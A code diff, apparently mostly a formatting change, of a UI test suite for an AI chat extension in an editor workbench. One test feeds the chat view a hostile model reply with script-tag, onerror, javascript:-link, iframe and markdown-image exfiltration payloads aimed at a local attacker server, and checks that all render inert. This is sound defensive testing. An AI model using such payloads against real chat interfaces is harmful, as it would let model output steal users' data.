@@ -2,15 +2,32 @@ import * as assert from 'assert';
 import * as http from 'http';
 import * as path from 'path';
 import { textReply } from '../server/chatServer';
-import { chatFrame, editorText, pickTheme, openFile, openWorkbench, runCommand, screenshotIfFailed, SCREENSHOTS, waitForParley, type Workbench } from './workbench';
+import {
+  chatFrame,
+  editorText,
+  pickTheme,
+  openFile,
+  openWorkbench,
+  runCommand,
+  screenshotIfFailed,
+  SCREENSHOTS,
+  waitForParley,
+  type Workbench,
+} from './workbench';
 
 /** Parley driven through the workbench as a person would: palette, context menu, clicks. */
 describe('Parley in the workbench (UI)', function () {
   this.timeout(180_000);
   let wb: Workbench;
-  before(async () => { wb = await openWorkbench(); });
-  after(async () => { await wb?.close(); });
-  afterEach(function () { return screenshotIfFailed(this, wb?.page, 'jobs'); });
+  before(async () => {
+    wb = await openWorkbench();
+  });
+  after(async () => {
+    await wb?.close();
+  });
+  afterEach(function () {
+    return screenshotIfFailed(this, wb?.page, 'jobs');
+  });
 
   it('opens the chat view from the Command Palette', async () => {
     await runCommand(wb.page, 'Parley: Open Chat');
@@ -22,7 +39,12 @@ describe('Parley in the workbench (UI)', function () {
 
   it('explains a selection from the editor context menu and streams the answer into the view', async () => {
     const { page, server } = wb;
-    server.enqueue(textReply('`fib` computes the **n-th Fibonacci number** recursively:\n\n```ts\nexport function fib(n: number): number {\n  return n < 2 ? n : fib(n - 1) + fib(n - 2);\n}\n```\n\nIt runs in exponential time; memoise it for large `n`.', { delayMs: 15 }));
+    server.enqueue(
+      textReply(
+        '`fib` computes the **n-th Fibonacci number** recursively:\n\n```ts\nexport function fib(n: number): number {\n  return n < 2 ? n : fib(n - 1) + fib(n - 2);\n}\n```\n\nIt runs in exponential time; memoise it for large `n`.',
+        { delayMs: 15 },
+      ),
+    );
     await openFile(page, 'src/math.ts');
     const line = page.locator('.editor-instance .view-line', { hasText: 'export function fib' });
     await line.click();
@@ -35,7 +57,12 @@ describe('Parley in the workbench (UI)', function () {
     // A synthetic click now and then only highlights the entry and the menu stays open (seen in a
     // fresh-clone run): Enter runs the highlighted entry, as a person would press it.
     const menu = page.locator('.context-view .monaco-menu').first();
-    if (!(await menu.waitFor({ state: 'detached', timeout: 3_000 }).then(() => true, () => false))) {
+    if (
+      !(await menu.waitFor({ state: 'detached', timeout: 3_000 }).then(
+        () => true,
+        () => false,
+      ))
+    ) {
       await item.hover();
       await page.keyboard.press('Enter');
       await menu.waitFor({ state: 'detached', timeout: 5_000 });
@@ -44,7 +71,7 @@ describe('Parley in the workbench (UI)', function () {
     const reply = frame.locator('.message.assistant').last();
     await reply.locator('.code-block').waitFor({ timeout: 30_000 });
     await frame.locator('.message.assistant.streaming').waitFor({ state: 'detached', timeout: 30_000 });
-    assert.match(await reply.textContent() ?? '', /Fibonacci number/);
+    assert.match((await reply.textContent()) ?? '', /Fibonacci number/);
     const sent = server.requests[server.requests.length - 1].body.messages.at(-1).content as string;
     assert.match(sent, /typescript code from `src\/math\.ts`/);
     assert.match(sent, /export function fib\(n: number\): number \{\n {2}if \(n < 2\) return n;/);
@@ -59,13 +86,25 @@ describe('Parley in the workbench (UI)', function () {
     await page.keyboard.press('ArrowUp');
     const frame = chatFrame(page);
     await frame.locator('.message.assistant').last().locator('button.code-action[data-action="insert"]').click();
-    await page.waitForFunction(() => document.querySelector('.editor-instance .view-lines')?.textContent?.replace(/\u00a0/g, ' ').includes('return n < 2 ? n'), undefined, { timeout: 15_000 });
+    await page.waitForFunction(
+      () =>
+        document
+          .querySelector('.editor-instance .view-lines')
+          ?.textContent?.replace(/\u00a0/g, ' ')
+          .includes('return n < 2 ? n'),
+      undefined,
+      { timeout: 15_000 },
+    );
     assert.match(await editorText(page), /return n < 2 \? n : fib\(n - 1\) \+ fib\(n - 2\);/);
   });
 
   it('rewrites a selection from the Command Palette: streamed into the editor, accepted with Ctrl+Enter', async () => {
     const { page, server } = wb;
-    server.enqueue(textReply('```ts\n/** Adds two numbers. */\nexport function add(a: number, b: number): number {\n  return a + b;\n}\n```', { delayMs: 40 }));
+    server.enqueue(
+      textReply('```ts\n/** Adds two numbers. */\nexport function add(a: number, b: number): number {\n  return a + b;\n}\n```', {
+        delayMs: 40,
+      }),
+    );
     const line = page.locator('.editor-instance .view-line', { hasText: 'export function add' });
     await line.click();
     await page.keyboard.press('Home');
@@ -92,19 +131,26 @@ describe('Parley in the workbench (UI)', function () {
   it('renders hostile model output inert: no script, no handlers, no javascript: links, no remote image', async () => {
     const { page, server } = wb;
     const attackerHits: string[] = [];
-    const attacker = http.createServer((req, res) => { attackerHits.push(req.url ?? ''); res.end('x'); });
+    const attacker = http.createServer((req, res) => {
+      attackerHits.push(req.url ?? '');
+      res.end('x');
+    });
     await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
     const port = (attacker.address() as import('net').AddressInfo).port;
     try {
-      server.enqueue(textReply([
-        'Safe text.',
-        '<script>window.parent.postMessage("pwned","*")</script>',
-        `<img src="http://127.0.0.1:${port}/raw.png" onerror="document.title='pwned'">`,
-        `![exfil](http://127.0.0.1:${port}/md.png?secret=1)`,
-        '[click me](javascript:alert(1)) and [data](data:text/html,<b>x</b>)',
-        `<iframe src="http://127.0.0.1:${port}/frame"></iframe>`,
-        'Done.',
-      ].join('\n\n')));
+      server.enqueue(
+        textReply(
+          [
+            'Safe text.',
+            '<script>window.parent.postMessage("pwned","*")</script>',
+            `<img src="http://127.0.0.1:${port}/raw.png" onerror="document.title='pwned'">`,
+            `![exfil](http://127.0.0.1:${port}/md.png?secret=1)`,
+            '[click me](javascript:alert(1)) and [data](data:text/html,<b>x</b>)',
+            `<iframe src="http://127.0.0.1:${port}/frame"></iframe>`,
+            'Done.',
+          ].join('\n\n'),
+        ),
+      );
       const frame = chatFrame(page);
       await frame.locator('#input').fill('show me something nasty');
       await frame.locator('#input').press('Enter');
@@ -114,7 +160,7 @@ describe('Parley in the workbench (UI)', function () {
       const body = reply.locator('.message-body');
       assert.strictEqual(await body.locator('script, img, iframe, [onerror]').count(), 0);
       assert.strictEqual(await body.locator('a[href], a[data-href^="javascript:"], a[data-href^="data:"]').count(), 0);
-      assert.match(await body.textContent() ?? '', /\[image: exfil\]/);
+      assert.match((await body.textContent()) ?? '', /\[image: exfil\]/);
       await page.waitForTimeout(500);
       assert.deepStrictEqual(attackerHits, [], 'nothing reached the attacker server');
     } finally {
@@ -129,7 +175,7 @@ describe('Parley in the workbench (UI)', function () {
     await runCommand(page, 'Parley: Open Chat');
     const frame = chatFrame(page);
     await frame.locator('.message.user', { hasText: 'show me something nasty' }).waitFor({ timeout: 30_000 });
-    assert.ok(await frame.locator('.message.assistant').count() >= 2);
+    assert.ok((await frame.locator('.message.assistant').count()) >= 2);
   });
 
   it('follows a light theme', async () => {
